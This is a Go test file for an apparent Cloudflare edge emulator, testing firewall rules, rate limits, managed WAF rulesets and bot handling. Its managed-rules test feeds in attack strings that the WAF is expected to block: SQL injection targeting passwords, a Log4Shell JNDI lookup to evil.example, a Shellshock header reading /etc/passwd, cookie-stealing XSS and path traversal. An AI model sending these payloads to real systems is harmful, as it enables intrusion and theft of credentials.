// Copyright The LaunchReady Authors.
// SPDX-License-Identifier: Apache-2.0

package edge_test

import (
	"encoding/json"
	"net/http"
	"strconv"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/launchready/launchready/test/emulators/cloudflare/edge"
	"github.com/launchready/launchready/test/emulators/cloudflare/expression"
)

const (
	custom  = "http_request_firewall_custom"
	limits  = "http_ratelimit"
	managed = "http_request_firewall_managed"
)

func TestFirewall(t *testing.T) {
	t.Parallel()
	r := newRig(t, zone())
	r.rules(custom,
		on(`http.request.uri.path eq "/log"`, "log", ""),
		on(`starts_with(http.request.uri.path, "/.") and not starts_with(http.request.uri.path, "/.well-known/")`, "block", ""),
		on(`http.request.uri.path eq "/own"`, "block", `{"response": {"status_code": 451, "content_type": "application/json", "content": "{\"no\": true}"}}`),
		on(`http.request.uri.path eq "/managed"`, "managed_challenge", ""), on(`http.request.uri.path eq "/js"`, "js_challenge", ""),
		on(`http.request.uri.path eq "/skip"`, "skip", `{"ruleset": "current", "phases": ["http_ratelimit", "http_request_firewall_managed"]}`),
		on(`http.request.uri.path in {"/skip" "/body"} or http.request.body.raw contains "attack"`, "block", ""))
	r.rules(limits, limit(`http.request.uri.path eq "/skip"`, "block", `{"characteristics": ["cf.colo.id", "ip.src"], "period": 10, "requests_per_period": 1, "mitigation_timeout": 10}`))
	r.rules(managed, on("true", "execute", `{"id": "efb7b8c949ac4650a09736fc376e9aee"}`))

	for accept, want := range map[string]string{
		"": "text/html; charset=UTF-8", "*/*": "text/html; charset=UTF-8", "text/html,application/json;q=0.9": "text/html; charset=UTF-8",
		"application/json": "application/json; charset=utf-8", "text/html;q=0.1, application/problem+json": "application/problem+json; charset=utf-8",
		"text/markdown, application/json": "text/markdown; charset=utf-8", "application/json, text/markdown;q=0.9": "application/json; charset=utf-8",
		"text/*": "text/markdown; charset=utf-8",
	} {
		got := r.get(app+"/.git/config", "Accept", accept)
		got.want(t, "blocked, Accept "+accept, 403, "Content-Type", want, "Server", "cloudflare", "Cf-Mitigated", "-", "Cf-Cache-Status", "-")
		if !strings.Contains(got.body, "1020") {
			t.Errorf("Accept %s: the body is %q", accept, got.body)
		}
	}
	for _, path := range []string{"/%2egit/config", "//.git", "/a/../.git", `/%2E%2Egit`, "/./.env"} {
		r.get(app+path).want(t, "blocked "+path, 403)
	}
	r.get(app+"/own").want(t, "a reply of its own", 451, "Content-Type", "application/json", "Cf-Mitigated", "-")
	for _, path := range []string{"/managed", "/js"} {
		got := r.get(app + path)
		got.want(t, path, 403, "Cf-Mitigated", "challenge", "Content-Type", "text/html; charset=UTF-8")
		if !strings.Contains(got.body, "Just a moment") {
			t.Errorf("%s: %q", path, got.body)
		}
	}
	r.happened()
	r.get(app+"/log", edge.HeaderClientIP, "198.51.100.5").want(t, "log", 200)
	want := []edge.Event{{Zone: "example.com", Host: "app.example.com", Method: "GET", Path: "/log", Source: "198.51.100.5", Phase: custom, Rule: "ref-log", Action: "log"}}
	got := r.happened()
	for i := range got {
		got[i].RayID = ""
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("events (-want +got):\n%s", d)
	}
	for range 3 {
		r.get(app+"/skip?q=1%27+or+1=1--").want(t, "skipped: later rules, rate limits and managed rules", 200)
	}
	r.do(http.MethodPost, app+"/x", "an attack").want(t, "by the body", 403)
	r.do(http.MethodPost, app+"/x", "a friend").want(t, "by the body, harmless", 200)
	r.get(app+"/.well-known/acme-challenge/x").want(t, "ACME", 200)

	r.rules(custom, on(`http.host eq "app.example.com"`, "block", ""))
	r.get(app+"/").want(t, "by host", 403)
	r.get(app+"/", "Host", "app.example.com:443").want(t, "by host, with the port", 403)
	// As documented, comparisons tell capitals apart, and http.host is as the visitor sent it.
	r.get(app+"/", "Host", "APP.example.com").want(t, "by host, in capitals", 200)
	r.rules(custom, on(`lower(http.host) eq "app.example.com"`, "block", ""))
	r.get(app+"/", "Host", "APP.example.com").want(t, "by host in lower case", 403)
}

func TestUnderAttack(t *testing.T) {
	t.Parallel()
	r := newRig(t, zone())
	r.settings("security_level", `"under_attack"`)
	r.get(app+"/").want(t, "everybody", 403, "Cf-Mitigated", "challenge")
	r.rules(custom, on(`http.request.uri.path eq "/api"`, "skip", `{"products": ["securityLevel"]}`))
	r.get(app+"/api").want(t, "exempt", 200)
	r.rules("http_config_settings", on(`http.request.uri.path eq "/"`, "set_config", `{"security_level": "medium"}`))
	r.get(app+"/").want(t, "set otherwise by a rule", 200)
}

func limit(expression, action, ratelimit string) edge.Rule {
	r := on(expression, action, "")
	r.RateLimit = json.RawMessage(ratelimit)
	return r
}

func TestRateLimit(t *testing.T) {
	t.Parallel()
	r := newRig(t, zone())
	r.rules(limits, limit(`http.request.uri.path eq "/login"`, "block",
		`{"characteristics": ["cf.colo.id", "ip.src", "http.request.headers[\"x-key\"]"], "period": 10, "requests_per_period": 2, "mitigation_timeout": 60}`))
	from := func(ip string, want int, headers ...string) reply {
		t.Helper()
		got := r.get(app+"/login", append(headers, edge.HeaderClientIP, ip)...)
		got.want(t, ip, want)
		return got
	}
	from("198.51.100.1", 200)
	from("198.51.100.1", 200)
	r.get(app+"/other", edge.HeaderClientIP, "198.51.100.1").want(t, "another path", 200)
	r.clock.pass(3500 * time.Millisecond)
	got := from("198.51.100.1", 429, "Accept", "application/json")
	got.want(t, "the third", 429, "Retry-After", "60", "Content-Type", "application/json; charset=utf-8", "Cf-Mitigated", "-", "Cf-Cache-Status", "-")
	if !strings.Contains(got.body, `"error_code":1015`) {
		t.Errorf("the body is %s", got.body)
	}
	from("198.51.100.2", 200)
	from("198.51.100.1", 200, "X-Key", "a")
	from("198.51.100.1", 200, "X-Key", "")
	from("198.51.100.1", 200, "X-Key", "") // an empty value counts apart from a missing one
	from("198.51.100.1", 429, "X-Key", "")
	r.get(app+"/other", edge.HeaderClientIP, "198.51.100.1").want(t, "another path", 200)
	r.clock.pass(59 * time.Second)
	from("198.51.100.1", 429).want(t, "just before the end", 429, "Retry-After", "1")
	r.clock.pass(time.Second)
	from("198.51.100.1", 200)
	from("198.51.100.1", 200)
	r.clock.pass(10 * time.Second)
	from("198.51.100.1", 200) // a new period
}

func TestRateLimitKinds(t *testing.T) {
	t.Parallel()
	r := newRig(t, zone())
	r.rules(limits, limit(`http.request.uri.path eq "/throttle"`, "block", `{"characteristics": ["cf.colo.id"], "period": 10, "requests_per_period": 1, "mitigation_timeout": 0}`))
	r.get(app+"/throttle").want(t, "one", 200)
	r.clock.pass(4 * time.Second)
	r.get(app+"/throttle").want(t, "throttled", 429, "Retry-After", "6")
	r.clock.pass(6 * time.Second)
	r.get(app+"/throttle").want(t, "the period is over", 200)

	r.answer(func(w http.ResponseWriter, req *http.Request) {
		code, _ := strconv.Atoi(req.URL.RawQuery)
		w.WriteHeader(code)
	})
	r.rules(limits, limit(`http.request.uri.path eq "/form"`, "block", `{"characteristics": ["cf.colo.id", "ip.src"], "period": 10, "requests_per_period": 1,
		"mitigation_timeout": 600, "counting_expression": "http.request.uri.path eq \"/form\" and http.response.code eq 400"}`))
	for i, want := range []int{400, 200, 400, 429, 429} { // developers.cloudflare.com/waf/rate-limiting-rules/request-rate/#example-b
		r.get(app+"/form?"+strconv.Itoa([]int{400, 200, 400, 200, 400}[i])).want(t, "request "+strconv.Itoa(i+1), want)
	}
	r.get(app+"/other?400").want(t, "another path", 400)

	r.answer(nil)
	r.rules(limits, limit(`http.request.uri.path contains "cached"`, "managed_challenge",
		`{"characteristics": ["cf.colo.id"], "period": 10, "requests_per_period": 1, "mitigation_timeout": 10, "requests_to_origin": true}`))
	for range 4 {
		r.get(app+"/cached.css").want(t, "from the cache", 200)
	}
	r.get(app+"/cached").want(t, "the second that goes to the origin", 200)
	r.get(app+"/cached").want(t, "after that", 403, "Cf-Mitigated", "challenge", "Retry-After", "-")

	r.rules(limits, limit(`true`, "block", `{"characteristics": ["cf.colo.id", "lower(http.request.headers[\"x-key\"][0])"], "period": 10, "requests_per_period": 1, "mitigation_timeout": 10}`))
	r.get(app+"/").want(t, "a missing value", 200)
	r.get(app+"/", "X-Key", "").want(t, "an empty value counts apart", 200)
	r.get(app+"/", "X-Key", "A").want(t, "another value", 200)
	r.get(app+"/", "X-Key", "a").want(t, "the same by the function", 429)

	r.rules(limits, limit(`true`, "block", `{"characteristics": ["ip.src"], "period": 10, "requests_per_period": 1, "mitigation_timeout": 10}`))
	r.get(app+"/").want(t, "no cf.colo.id", 500)
}

func TestRateLimitOnFree(t *testing.T) {
	t.Parallel()
	z := zone()
	z.Plan = "free"
	r := newRig(t, z)
	const by = `{"characteristics": ["cf.colo.id", "ip.src"], "period": 10, "requests_per_period": 1, "mitigation_timeout": 10}`
	r.rules(limits, limit(`http.request.uri.path eq "/login"`, "block", by))
	r.get(app+"/login").want(t, "one", 200)
	r.get("https://a.wild.example.com/login").want(t, "on another host of the zone", 429)
	r.rules(limits, limit(`http.host eq "app.example.com"`, "block", by))
	got := r.get(app + "/login")
	if got.status != 500 || !strings.Contains(got.header.Get(edge.HeaderError), "needs the plan pro") {
		t.Errorf("a host in a rate limit on Free: %d %v", got.status, got.header)
	}
}

func TestManagedRules(t *testing.T) {
	t.Parallel()
	const (
		sqli   = app + "/?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20"
		log4j  = "${jndi:ldap://evil.example/a}"
		shock  = "() { :; }; /bin/cat /etc/passwd"
		owasp  = "4814384a9e5d4991b9815dcfc25d2f1f"
		cf     = "efb7b8c949ac4650a09736fc376e9aee"
		scored = `{"id": "` + owasp + `", "overrides": {"rules": [{"id": "6179ae15870a4bb7b2d480d4843b323c", "score_threshold": `
	)
	r := newRig(t, zone())
	r.get(sqli).want(t, "no managed rules", 200)
	for _, tt := range []struct {
		name   string
		params string
		status int
	}{
		{"Cloudflare's, default", `{"id": "` + cf + `"}`, 403},
		{"Cloudflare's, log", `{"id": "` + cf + `", "overrides": {"action": "log"}}`, 200},
		{"Cloudflare's, challenge", `{"id": "` + cf + `", "overrides": {"action": "managed_challenge"}}`, 403},
		{"Cloudflare's, off", `{"id": "` + cf + `", "overrides": {"enabled": false}}`, 200},
		{"OWASP, threshold 60", scored + `60}]}}`, 200},
		{"OWASP, threshold 10", scored + `10}]}}`, 403},
		{"OWASP, threshold 10, log", scored + `10, "action": "log"}]}}`, 200},
		{"OWASP, threshold 30, paranoia level 1", scored + `30}]}}`, 200},
		{"OWASP, threshold 30, paranoia level 2", scored + `30}], "categories": [{"category": "paranoia-level-2", "enabled": true}, {"category": "paranoia-level-3", "enabled": false}]}}`, 403},
		{"OWASP, no such level", scored + `30}], "categories": [{"category": "paranoia-level-9", "enabled": true}]}}`, 500},
		{"OWASP, unknown rule", `{"id": "` + owasp + `", "overrides": {"rules": [{"id": "x", "action": "log"}]}}`, 500},
		{"Cloudflare's, one rule", `{"id": "` + cf + `", "overrides": {"rules": [{"id": "x", "action": "log"}]}}`, 500},
	} {
		r.rules(managed, on("true", "execute", tt.params))
		r.happened()
		r.get(sqli).want(t, tt.name, tt.status)
		events := r.happened()
		if tt.status == 403 && (len(events) != 1 || !strings.Contains(events[0].Detail, "942")) {
			t.Errorf("%s: events %v", tt.name, events)
		}
		if tt.status == 500 {
			continue
		}
		r.get(app+"/search?q=shoes+and+socks").want(t, tt.name+", harmless", 200)
		r.do(http.MethodPut, app+"/api", `{"a": "b"}`, "Content-Type", "application/json").want(t, tt.name+", PUT", 200)
	}
	r.rules(managed, on("true", "execute", `{"id": "`+cf+`"}`))
	r.do(http.MethodPost, app+"/", `{"q": "<script>alert(document.cookie)</script>"}`, "Content-Type", "application/json").want(t, "XSS in JSON", 403)
	r.get(app+"/?f=../../../../etc/passwd").want(t, "path traversal", 403)
	r.rules(managed, on(`http.request.uri.path eq "/"`, "skip", `{"rulesets": ["`+cf+`"]}`), on("true", "execute", `{"id": "`+cf+`"}`))
	r.get(sqli).want(t, "skipped ruleset", 200)
	r.rules(managed, on(`true`, "skip", `{"ruleset": "current"}`), on("true", "execute", `{"id": "`+cf+`"}`))
	r.get(sqli).want(t, "skipped rest", 200)

	r.rules(managed)
	r.set(func(z *edge.Zone) { z.Plan = "free" })
	r.get(sqli).want(t, "SQL injection on Free", 200)
	r.get(app+"/", "X-Api", log4j).want(t, "Log4Shell on Free", 403)
	r.get(app+"/", "User-Agent", shock).want(t, "Shellshock on Free", 403)
	r.set(func(z *edge.Zone) { z.Plan = "pro" })
	r.get(app+"/", "X-Api", log4j).want(t, "Log4Shell on Pro without rules", 200)
}

func TestBodyReachesOrigin(t *testing.T) {
	t.Parallel()
	r := newRig(t, zone())
	r.rules(managed, on("true", "execute", `{"id": "efb7b8c949ac4650a09736fc376e9aee"}`))
	read := make(chan int, 1)
	r.answer(func(_ http.ResponseWriter, req *http.Request) {
		n := 0
		buffer := make([]byte, 4096)
		for {
			m, err := req.Body.Read(buffer)
			n += m
			if err != nil {
				break
			}
		}
		read <- n
	})
	for _, size := range []int{1, 128 << 10, 128<<10 + 1, 300_000} {
		r.do(http.MethodPost, app+"/", strings.Repeat("a", size), "Content-Type", "text/plain").want(t, "a body", 200)
		select {
		case n := <-read:
			if n != size {
				t.Errorf("of %d bytes %d reached the origin", size, n)
			}
		default:
			t.Errorf("%d bytes didn't reach the origin", size)
		}
	}
}

func TestBots(t *testing.T) {
	t.Parallel()
	var scores atomic.Pointer[expression.Scores]
	scores.Store(&expression.Scores{})
	r := newRig(t, zone(), func(o *edge.Options) { o.Scores = func(*http.Request) expression.Scores { return *scores.Load() } })
	bots := func(config string) {
		r.set(func(z *edge.Zone) { z.Bots = json.RawMessage(config) })
	}
	const browser = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/140.0 Safari/537.36"
	get := func(what, path, agent string, status int, mitigated string) {
		t.Helper()
		r.get(app+path, "User-Agent", agent).want(t, what, status, "Cf-Mitigated", mitigated)
	}
	bots(`{"fight_mode": true}`)
	get("fight mode, a program", "/", "curl/8.0", 403, "challenge")
	get("fight mode, no name", "/", "", 403, "challenge")
	get("fight mode, a browser", "/", browser, 200, "-")
	r.rules(custom, on("true", "skip", `{"phases": ["http_request_sbfm"]}`))
	get("fight mode can't be skipped", "/", "curl/8.0", 403, "challenge")
	bots(`{"sbfm_definitely_automated": "block"}`)
	get("super bot fight mode can be skipped", "/", "curl/8.0", 200, "-")
	r.rules(custom)
	get("super, definitely automated", "/", "python-requests/2", 403, "-")
	get("super, a static file", "/a.css", "python-requests/2", 200, "-")
	get("super, a browser", "/", browser, 200, "-")
	bots(`{"sbfm_definitely_automated": "allow", "sbfm_likely_automated": "managed_challenge", "sbfm_static_resource_protection": true}`)
	get("super, allowed", "/", "curl/8.0", 200, "-")
	scores.Store(&expression.Scores{Bot: 20})
	get("super, likely automated", "/a.css", browser, 403, "challenge")
	scores.Store(&expression.Scores{Bot: 1, VerifiedBot: true})
	get("super, a verified bot", "/", browser, 200, "-")
	bots(`{"ai_bots_protection": "block"}`)
	get("an AI bot", "/", "Mozilla/5.0 (compatible; GPTBot/1.2)", 403, "-")
	scores.Store(&expression.Scores{LLM: expression.LLM{Detected: true, InjectionScore: 5}})
	r.rules(custom, on(`cf.llm.prompt.detected and cf.llm.prompt.injection_score lt 20`, "block", ""))
	get("a prompt that attacks", "/", browser, 403, "-")
}
